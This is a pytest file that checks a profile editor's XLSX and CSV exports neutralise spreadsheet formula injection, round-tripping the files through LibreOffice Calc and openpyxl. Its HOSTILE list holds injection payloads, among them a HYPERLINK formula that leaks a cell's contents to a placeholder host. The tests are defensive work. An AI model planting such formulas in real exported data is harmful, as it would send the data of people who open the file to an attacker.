"""Issue 9.9: a cell that a spreadsheet program would run as a formula is written as text.

Checked with a real reader: LibreOffice Calc opens our XLSX and CSV and saves them as XLSX again;
openpyxl then says whether each cell came back as a formula or as the literal text.
"""

from __future__ import annotations

import copy
import shutil
import subprocess
from pathlib import Path

import pytest
from export_helpers import TODAY

from profileeditor.export import export_profiles

HOSTILE = [
    '=HYPERLINK("https://x.invalid/?leak="&C3,"Details")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_profiles(consented) -> list[dict]:
    out = []
    for text in HOSTILE:
        p = copy.deepcopy(consented[0])
        p["name"] = {"ar": text, "en": text}
        p["governorate"] = {"ar": text, "en": text}
        out.append(p)
    return out


def _calc_roundtrip(path: Path, work: Path) -> list[list[tuple[object, str]]]:
    """LibreOffice Calc reads ``path`` and saves it as XLSX; the cells as (value, data type)."""
    import openpyxl

    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is required to read the spreadsheets as a real client"
    out = work / "calc"
    args = [soffice, f"-env:UserInstallation=file://{work / 'profile'}", "--headless"]
    if path.suffix == ".csv":
        # Separator ",", quote '"', UTF-8 (76), from line 1; token 13 (evaluate formulas) on, as
        # a user opening the file in Calc or Excel would get.
        args.append(
            "--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false,false,false,-1,true"
        )
    target = work / f"{path.stem}-{path.suffix[1:]}.xlsx"
    proc = subprocess.run(
        [*args, "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(out), str(path)],
        capture_output=True,
        timeout=240,
    )
    produced = out / f"{path.stem}.xlsx"
    assert produced.exists(), proc.stderr
    produced.rename(target)
    workbook = openpyxl.load_workbook(target)
    return [[(c.value, c.data_type) for c in row] for row in workbook.active.iter_rows()]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_formula_cells_are_text_for_a_real_reader(tmp_path, hostile_profiles, fmt):
    out = tmp_path / f"table.{fmt}"
    export_profiles(hostile_profiles, fmt, out, lang="en", today=TODAY)
    cells = _calc_roundtrip(out, tmp_path)
    # Calc saves a boolean cell as the formula TRUE() or FALSE(); anything else is ours.
    formulas = [v for row in cells for v, kind in row if kind == "f"]
    assert not [v for v in formulas if v not in ("=TRUE()", "=FALSE()")], "a cell became a formula"
    texts = [str(v) for row in cells[1:] for v, _ in row if v is not None]
    for hostile in HOSTILE:
        shown = [t for t in texts if hostile.strip() in t]
        assert shown, f"{hostile!r} not kept as text"


def test_xlsx_cells_are_typed_as_text(tmp_path, hostile_profiles):
    import openpyxl

    out = tmp_path / "t.xlsx"
    export_profiles(hostile_profiles, "xlsx", out, lang="en", today=TODAY)
    workbook = openpyxl.load_workbook(out)
    rows = list(workbook.active.iter_rows(min_row=2))
    hostile = [c for row in rows for c in row if isinstance(c.value, str) and c.value in HOSTILE]
    assert len(hostile) >= len(HOSTILE)
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)


def test_csv_neutralises_formula_starts(tmp_path, hostile_profiles):
    import csv

    out = tmp_path / "t.csv"
    export_profiles(hostile_profiles, "csv", out, lang="en", today=TODAY)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in list(csv.reader(fh))[1:] for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for hostile in HOSTILE:
        assert "'" + hostile in cells
